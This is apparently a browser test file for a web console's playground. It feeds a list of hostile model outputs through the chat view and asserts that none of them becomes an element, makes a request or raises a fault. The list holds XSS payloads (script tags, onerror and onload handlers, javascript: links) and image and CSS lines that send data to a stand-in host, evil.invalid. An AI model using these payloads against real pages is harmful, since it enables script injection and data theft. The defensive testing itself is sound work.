// Outputs that would carry data away, run or freeze the page, streamed piece by piece: none of them asks another origin for anything, opens a
// dialog, is reported by the policy of the page or becomes an element.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hasBrowser, type ServedConsole, serveConsole } from './served-console.ts';

const outputs = [
  '![x](https://evil.invalid/?q=secret) ![y](//evil.invalid/y.png)',
  '<img src="https://evil.invalid/x" onerror="alert(1)"><script>alert(2)</script>',
  '<svg onload="alert(3)"><use href="https://evil.invalid/a#b"/></svg>',
  '[click](javascript:alert(4)) <javascript:alert(5)> [d](data:text/html,<script>alert(6)</script>)',
  '<iframe src="https://evil.invalid"></iframe><form action="https://evil.invalid"><input autofocus></form>',
  '<style>@import "https://evil.invalid/x.css"; body { display: none }</style>',
  '[r]: https://evil.invalid/ref\n\n![r][r] [r]',
  '\u001b[31mred\u001b]8;;https://evil.invalid\u0007link\u001b]8;;\u0007 \u202eevil\u202c',
  '```html\n<script>alert(7)</script>\n',
  '| a | b |\n|---|---|\n| ![x](https://evil.invalid/t) | <b onclick="alert(8)">c</b> |',
  '$$\\href{javascript:alert(9)}{x} \\includegraphics{https://evil.invalid/f}',
  `${'>'.repeat(300)} deep`,
];

describe.skipIf(!hasBrowser)('what a model writes (skipped: there is no Chromium)', () => {
  let served: ServedConsole;
  let next = 0;
  beforeAll(async () => {
    served = await serveConsole({
      reply: () => {
        const output = outputs[next++] as string;
        return [...output, '</think>', ...output];
      },
    });
  });
  afterAll(() => served[Symbol.asyncDispose]());

  test('stays text', async () => {
    const { page, faults } = await served.open();
    await page.goto(await served.signInUrl());
    await page.locator('a[href="/console/playground"]').click();
    for (const [place] of outputs.entries()) {
      await page.getByRole('textbox').fill('x');
      await page.keyboard.press('Enter');
      await page.locator('.turn').nth(place).getByText('Done').waitFor();
    }
    expect(next).toBe(outputs.length);
    const elements =
      '.turn :is(img, script, iframe, form, style, input, object, video, [onclick], [href^="javascript"])';
    expect(await page.locator(elements).count()).toBe(0);
    expect(faults).toEqual([]);
  }, 90_000);
});
